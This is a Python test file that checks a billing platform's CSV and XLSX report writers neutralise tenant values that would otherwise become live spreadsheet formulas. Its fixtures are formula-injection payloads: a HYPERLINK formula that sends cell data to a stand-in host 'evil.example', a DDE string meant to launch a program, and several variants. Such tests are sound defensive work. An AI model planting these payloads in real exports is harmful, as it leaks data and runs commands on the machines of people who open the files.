"""Nothing a tenant names (a voucher program, a key, a model alias) becomes a live formula in the
CSV and XLSX files the platform writes: every export goes through billing.reports' two writers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from dizuo.billing.reports import render

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")'
ROWS = [
    {"program": EVIL, "org": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)", "amount": "-14.100000"},
    {"program": "\t=1+1", "org": "-2+3", "note": "试点项目", "amount": "0.500000"},
]


def test_csv_cells_that_would_start_a_formula_are_inert() -> None:
    text = render("csv", ROWS, {"issuer": "=1+2"}).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells and "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
    assert "'\t=1+1" in cells and "'-2+3" in cells and "'=1+2" in cells
    # Numbers stay numbers, text stays as typed.
    assert "-14.100000" in cells and "0.500000" in cells and "试点项目" in cells


@pytest.mark.parametrize("header", [None, {"issuer": "=1+2"}])
def test_xlsx_text_is_stored_as_text_never_as_a_formula(header: dict[str, str] | None) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(render("xlsx", ROWS, header))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + EVIL in values and "-14.100000" in values and "试点项目" in values
